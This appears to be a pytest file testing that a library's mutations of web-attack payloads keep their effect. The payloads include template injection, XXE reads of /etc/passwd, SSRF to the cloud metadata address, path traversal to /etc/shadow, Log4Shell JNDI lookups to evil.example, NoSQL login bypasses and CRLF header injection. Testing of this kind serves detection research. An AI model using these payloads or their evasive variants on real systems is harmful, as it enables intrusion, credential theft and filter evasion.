"""Template, XML, URL, path, lookup, NoSQL and header mutations, each against something that interprets the text."""

import ipaddress
import json
import ntpath
import posixpath
import random
import re
import socket
from email.parser import HeaderParser
from urllib.parse import urlsplit
from xml.parsers import expat

import jinja2
import pytest

from secmlops.web_attacks.mutations import MUTATIONS, mutate
from secmlops.web_attacks.mutations.addresses import MUTATIONS as ADDRESSES
from secmlops.web_attacks.mutations.documents import MUTATIONS as DOCUMENTS
from secmlops.web_attacks.mutations.paths import MUTATIONS as PATHS

TEMPLATES = [
    "{{7*7}}",
    "Hello {{ 3*4 }} and {{'abc'}}",
    "{{''.__class__}}",
    "{{''.__class__.__mro__}}",
    "{{ config.items }}",
    "{{config['secret']}}",
    "{{ [].__class__.__name__ }}",
]
TEMPLATE_MUTATIONS = [one for one in DOCUMENTS if "ssti" in one.classes]
XML_MUTATIONS = [one for one in DOCUMENTS if "xxe" in one.classes]
XML_CASES = [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    "<?xml version='1.0' encoding='UTF-8'?>\n"
    '<!DOCTYPE r [ <!ELEMENT r ANY > <!ENTITY sp SYSTEM "http://h/x?a=1" >]>\n<r>&sp;</r>',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c:/boot.ini">]><a>&b;</a>',
]


def variants(one, payload, count=25):
    return {one.apply(payload, random.Random(seed)) for seed in range(count)} - {payload}


def rendered(template):
    return jinja2.Environment().from_string(template).render(config={"secret": 5})


@pytest.mark.parametrize("one", TEMPLATE_MUTATIONS, ids=lambda one: one.name)
def test_templates_render_to_the_same_text(one):
    changed = 0
    for payload in TEMPLATES:
        expected = rendered(payload)
        for mutated in variants(one, payload):
            changed += 1
            if "items" in payload:  # a bound method's text holds its address
                assert rendered(mutated)[:40] == expected[:40]
            else:
                assert rendered(mutated) == expected, mutated
    assert changed


def test_composed_template_mutations_render_to_the_same_text():
    for payload in TEMPLATES[:4]:
        for seed in range(40):
            mutated = mutate(payload, "ssti", random.Random(seed), rounds=4)
            assert rendered(mutated) == rendered(payload), mutated


def external_entities(document: bytes):
    """What a parser would fetch: the system identifiers of the external entities that the document refers to."""
    found = []
    parser = expat.ParserCreate()
    parser.ExternalEntityRefHandler = lambda context, base, system, public: found.append(system) or 1
    parser.Parse(document, True)
    return found


@pytest.mark.parametrize("one", XML_MUTATIONS, ids=lambda one: one.name)
def test_xml_refers_to_the_same_external_entities(one):
    changed = 0
    for payload in XML_CASES:
        expected = external_entities(payload.encode("latin-1"))
        assert expected
        for mutated in variants(one, payload):
            changed += 1
            assert external_entities(mutated.encode("latin-1")) == expected, mutated
    assert changed


def test_composed_xml_mutations_refer_to_the_same_external_entities():
    for payload in XML_CASES:
        for seed in range(30):
            mutated = mutate(payload, "xxe", random.Random(seed), rounds=5)
            assert external_entities(mutated.encode("latin-1")) == external_entities(payload.encode("latin-1")), mutated


def endpoint(url):
    """Whom a client would ask for what: scheme, address, port, path and query."""
    split = urlsplit(url)
    host = (split.hostname or "").rstrip(".")
    try:
        address = ipaddress.ip_address(host)
        host = str(getattr(address, "ipv4_mapped", None) or address)
    except ValueError:
        try:
            host = str(ipaddress.IPv4Address(socket.inet_aton(host)))
        except OSError:
            host = host.lower()
    port = split.port or {"http": 80, "https": 443}[split.scheme]
    return split.scheme, host, port, split.path, split.query


URLS = [
    "http://127.0.0.1/admin",
    "http://169.254.169.254/latest/meta-data/?x=1",
    "https://localhost/status",
    "http://10.0.0.8:8080/a",
]


@pytest.mark.parametrize("one", ADDRESSES, ids=lambda one: one.name)
def test_urls_name_the_same_endpoint(one):
    changed = 0
    for payload in URLS:
        for mutated in variants(one, payload):
            changed += 1
            assert endpoint(mutated) == endpoint(payload), mutated
    assert changed


def test_composed_url_mutations_name_the_same_endpoint():
    for payload in URLS:
        for seed in range(40):
            mutated = mutate(payload, "ssrf", random.Random(seed), rounds=4)
            assert endpoint(mutated) == endpoint(payload), mutated


TRAVERSALS = [
    "../../../../etc/passwd",
    "/static/../../../../../etc/passwd",
    "..//..//../var/log/syslog",
    "file=/etc/shadow",
]


def resolved(path, engines):
    """The file a path names: from three folders below the root, with `;parameters` dropped as Tomcat does."""
    path = re.sub(r"(?<=\.\.);[^/]*", "", path)
    if "windows" in engines and "posix" not in engines:
        return ntpath.normpath("C:/a/b/c/" + path).lower()
    return re.sub(r"/+", "/", posixpath.normpath("/a/b/c/" + path))


@pytest.mark.parametrize("one", PATHS, ids=lambda one: one.name)
def test_paths_name_the_same_file(one):
    changed = 0
    for payload in TRAVERSALS:
        for mutated in variants(one, payload):
            changed += 1
            assert resolved(mutated, one.engines) == resolved(payload, one.engines), mutated
    assert changed


def log4j(text):
    """What Log4j 2 makes of nested lookups: innermost first; `lower`, and the default after `:-` for unset names."""
    innermost = re.compile(r"\$\{(?!jndi:)(?P<name>[^${}]*)\}", re.IGNORECASE)
    while match := innermost.search(text):
        name = match["name"]
        if name.lower().startswith("lower:"):
            value = name[6:].lower()
        else:
            assert ":-" in name, text
            value = name.partition(":-")[2]
        text = text[: match.start()] + value + text[match.end() :]
    return re.sub(r"\$\{jndi:", "${jndi:", text, flags=re.IGNORECASE)


@pytest.mark.parametrize("name", ["log4j_nested_lookup", "log4j_prefix_case", "log4j_surrounding_words"])
def test_lookups_resolve_to_the_same(name):
    payload = "${jndi:ldap://evil.example/a}"
    changed = variants(MUTATIONS[name], payload)
    assert changed
    for mutated in changed:
        assert payload in log4j(mutated), mutated


def test_composed_lookup_mutations_resolve_to_the_same():
    payload = "${jndi:rmi://evil.example/a}"
    for seed in range(60):
        assert payload in log4j(mutate(payload, "log4shell", random.Random(seed), rounds=3))


DOCUMENTS_JSON = [
    '{"user": {"$ne": null}, "pass": {"$ne": "x"}}',
    '{"user":{"$gt":""}}',
    '{"a": {"$eq": 5}, "b": ["$x", 1]}',
]


@pytest.mark.parametrize("name", ["nosql_unicode_operator", "nosql_blanks"])
def test_json_documents_stay_equal(name):
    changed = 0
    for payload in DOCUMENTS_JSON:
        for mutated in variants(MUTATIONS[name], payload):
            changed += 1
            assert json.loads(mutated) == json.loads(payload)
    assert changed


def matches(condition, value):
    """The part of MongoDB's query language that the mutation uses."""
    operators = {
        "$ne": lambda wanted: value != wanted,
        "$eq": lambda wanted: value == wanted,
        "$in": lambda wanted: value in wanted,
        "$nin": lambda wanted: value not in wanted,
        "$gt": lambda wanted: isinstance(value, str) and value > wanted,
    }
    if not isinstance(condition, dict):
        return condition == value
    return all(operators[name](wanted) for name, wanted in condition.items())


def test_equivalent_operators_select_the_same_documents():
    changed = variants(MUTATIONS["nosql_equivalent_operator"], DOCUMENTS_JSON[0])
    changed |= variants(MUTATIONS["nosql_equivalent_operator"], DOCUMENTS_JSON[2])
    assert changed
    for mutated in changed:
        after = json.loads(mutated)
        before = json.loads(DOCUMENTS_JSON[0] if "user" in after else DOCUMENTS_JSON[2])
        for field in before:
            for value in (None, "x", "y", 5, 6):
                assert matches(before[field], value) == matches(after[field], value)


HEADERS = "en\r\nSet-Cookie: session=evil; Path=/\r\nLocation: http://evil.example/"


def injected(text):
    """The injected headers as a lenient recipient reads them."""
    message = HeaderParser().parsestr(re.split(r"\r\n|\n", text, maxsplit=1)[1])
    return {name.lower(): value.strip() for name, value in message.items()}


@pytest.mark.parametrize("name", ["header_case", "header_blanks", "header_line_end", "header_extra_line"])
def test_injected_headers_stay(name):
    changed = variants(MUTATIONS[name], HEADERS)
    assert changed
    for mutated in changed:
        assert injected(HEADERS).items() <= injected(mutated).items(), mutated
